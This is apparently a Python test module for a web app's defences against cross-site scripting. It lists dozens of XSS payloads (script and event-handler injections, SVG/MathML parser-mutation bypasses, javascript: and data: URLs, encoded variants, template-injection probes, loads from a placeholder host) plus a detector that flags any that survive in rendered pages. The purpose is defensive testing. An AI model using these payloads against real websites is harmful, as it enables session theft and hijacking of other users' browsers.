"""Texts that somebody writes to have them run in another's browser, and what a page says that has let one through.

`HIT` is what each wants to run. What cannot run in Chromium by itself (a link that must be followed, an attribute that
wants a click) leaves its mark in the page all the same, and is seen by that.
"""

HIT = "xss(1)"
SUM = "62773913"  # 7919 × 7927: what a text is told as if somebody reckons what it says

MARKUP = [
    # Scripts
    f"<script>{HIT}</script>",
    f"</p></td></div></main><script>{HIT}</script>",
    f"<ScRiPt >{HIT}</sCrIpT\t>",
    f"<script\n>{HIT}</script\n>",
    "<script src=//kx.invalid/a.js></script>",
    "<script src=data:text/javascript,xss(1)></script>",
    f"<script type=module>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</option></select><script>{HIT}</script>",
    f"</script><script>{HIT}</script>",
    f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt><script>{HIT}</script>",
    # Attributes that run
    f"<img src=x onerror={HIT}>",
    f"<img/src/onerror={HIT}>",
    f"<img src=x\nonerror\n=\n{HIT}>",
    f"<IMG SRC=x OnErRoR='{HIT}'>",
    f"<input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>kx</details>",
    f"<video src=x onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}></audio>",
    f"<video><source onerror={HIT}></video>",
    f"<body onload={HIT}>",
    f"<b onmouseover={HIT}>kx</b>",
    f"<b onclick={HIT} style=position:fixed;inset:0>kx</b>",
    f"<b tabindex=0 id=kx onfocus={HIT}>kx</b>",
    f"<a href=# onpointerenter={HIT}>kx</a>",
    f"<marquee onstart={HIT}>kx</marquee>",
    f"<form onformdata={HIT}><button>kx</button></form>",
    f"<button popovertarget=p>k</button><p popover id=p onbeforetoggle={HIT}>",
    f"<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={HIT}>",
    # Drawings and formulas
    f"<svg onload={HIT}>",
    f"<svg/onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    "<svg><script>xss&#40;1&#41;</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><set attributeName=x onbegin={HIT}>",
    "<svg><a xlink:href=javascript:xss(1)><text x=9 y=9>kx</text></a></svg>",
    "<svg><use href=data:image/svg+xml,%3Csvg/onload=xss(1)%3E /></svg>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
    f"<math><mtext><img src=x onerror={HIT}></mtext></math>",
    # Frames, and what moves the page or its forms
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    "<iframe src=javascript:parent.xss(1)></iframe>",
    "<object data=javascript:xss(1)></object>",
    "<embed src=data:text/html,kx>",
    "<base href=//kx.invalid/>",
    "<meta http-equiv=refresh content=0;url=data:text/html,kx>",
    "<link rel=stylesheet href=//kx.invalid/a.css>",
    "<form action=//kx.invalid/><input name=kx></form>",
    "<button form=f formaction=javascript:xss(1)>kx</button>",
    # htmx
    "<p hx-get=//kx.invalid/ hx-trigger=load>kx</p>",
    "<p hx-on:click=xss(1) data-hx-get=/ hx-trigger=load>kx</p>",
    # Styles
    "<style>@import '//kx.invalid/b.css'</style>",
    "</style><style>*{background:url(//kx.invalid/c)}</style>",
    "<b style='background:url(//kx.invalid/d)'>kx</b>",
    # What a browser mends until it runs
    f"<noscript><p title=\"</noscript><img src=x onerror={HIT}>\">",
    f"<svg></p><style><a id=\"</style><img src=x onerror={HIT}>\">",
    f"<math><mi><table><mglyph><style><!--</style><img title=\"--&gt;\" src=x onerror={HIT}>",
    f"<template><p></template><img src=x onerror={HIT}>",
    f"<xmp><p title=\"</xmp><img src=x onerror={HIT}>\">",
    f"<a href='x'><table><a href=y><img src=x onerror={HIT}></table>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<?php <img src=x onerror={HIT}> ?>",
    f"<img src=x one\0rror=x onerror={HIT}>",
]  # fmt: skip

LEAVES_ITS_PLACE = [
    f"\" autofocus onfocus={HIT} x=\"",
    f"' autofocus onfocus={HIT} x='",
    f"\"><img src=x onerror={HIT}>",
    f"'><img src=x onerror={HIT}>",
    f"x autofocus onfocus={HIT}",
    f"\"\tonfocus\t=\t{HIT}\tautofocus\tx=\"",
    f"\\\"><script>{HIT}</script>",
    f"'-{HIT}-'",
    f"\";{HIT};//",
    f"</script><img src=x onerror={HIT}>",
    f"`-{HIT}-`${{{HIT}}}",
    f"\u2028{HIT}//",
]  # fmt: skip

LEADS_AWAY = [
    "javascript:xss(1)",
    "JaVaScRiPt:xss(1)",
    " javascript:xss(1)",
    "java\tscript:xss(1)",
    "java\nscript:xss(1)",
    "\x01javascript:xss(1)",
    "javascript&colon;xss(1)",
    "javascript://kx.invalid/%0Axss(1)",
    "javascript:/*https://kx.example/*/xss(1)",
    "vbscript:xss(1)",
    "data:text/html,<script>xss(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5reDwvc2NyaXB0Pg==",
]

RECKONED = [
    "{{ 7|add:62773906 }}",
    "{% widthratio 7919 1 7927 %}",
    "{% filter cut:'x' %}62x773x913{% endfilter %}",
]

UNICODE = [
    f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e",
    f"<\u017fcript>{HIT}</\u017fcript><img src=x onerror={HIT}>",
    f"\u202e>'tpircs'<\u202c<img src=x onerror={HIT}>",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"&lt;img src=x onerror={HIT}&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"\\u003cimg src=x onerror={HIT}\\u003e",
]

ALL = MARKUP + LEAVES_ITS_PLACE + LEADS_AWAY + RECKONED + UNICODE

# Before anything of the page: what is run says so, and so does what the policy of the page has stopped.
LISTEN = """
  window.__xss = [];
  window.xss = (number) => window.__xss.push(`ran ${number}`);
  document.addEventListener("securitypolicyviolation", (event) =>
    window.__xss.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""

# What has been let through without having run: nothing of this kind is in any page of ours.
SEEN = """() => {
  const runs = /^[\\x00-\\x20]*(j\\s*a\\s*v\\s*a\\s*s|v\\s*b\\s*s)\\s*c\\s*r\\s*i\\s*p\\s*t\\s*:/i;
  const leads = { test: (text) => runs.test(text) || /^\\s*data:(text|image.svg)|kx\\.invalid/i.test(text) };
  const places = new Set(["href", "xlink:href", "src", "srcdoc", "action", "formaction", "data", "content", "style"]);
  const foreign = "iframe object embed base style marquee math frameset xmp video audio template foreignobject";
  const found = [...window.__xss];
  for (const each of document.querySelectorAll("*")) {
    const name = each.localName.toLowerCase();
    if (foreign.split(" ").includes(name)) found.push(`<${name}>`);
    const ours = (each.getAttribute("src") || "").startsWith("/static/") || each.type === "application/json";
    if (name === "script" && !ours) found.push("<script>");
    if (name === "meta" && each.httpEquiv) found.push("<meta>");
    for (const { name: key, value } of each.attributes) {
      if (/^on|hx-on/i.test(key)) found.push(`${name} ${key}`);
      const isPicture = name === "img" && value.startsWith("data:image/");  // nothing in it runs: our own QR code
      if (places.has(key) && leads.test(value) && !isPicture) found.push(`${name} ${key}=${value.slice(0, 40)}`);
      if (/^(data-)?hx-get$/.test(key) && (leads.test(value) || key !== "hx-get")) found.push(`${name} ${key}`);
    }
  }
  if (document.documentElement.textContent.includes("62773913")) found.push("reckoned");
  return found;
}"""
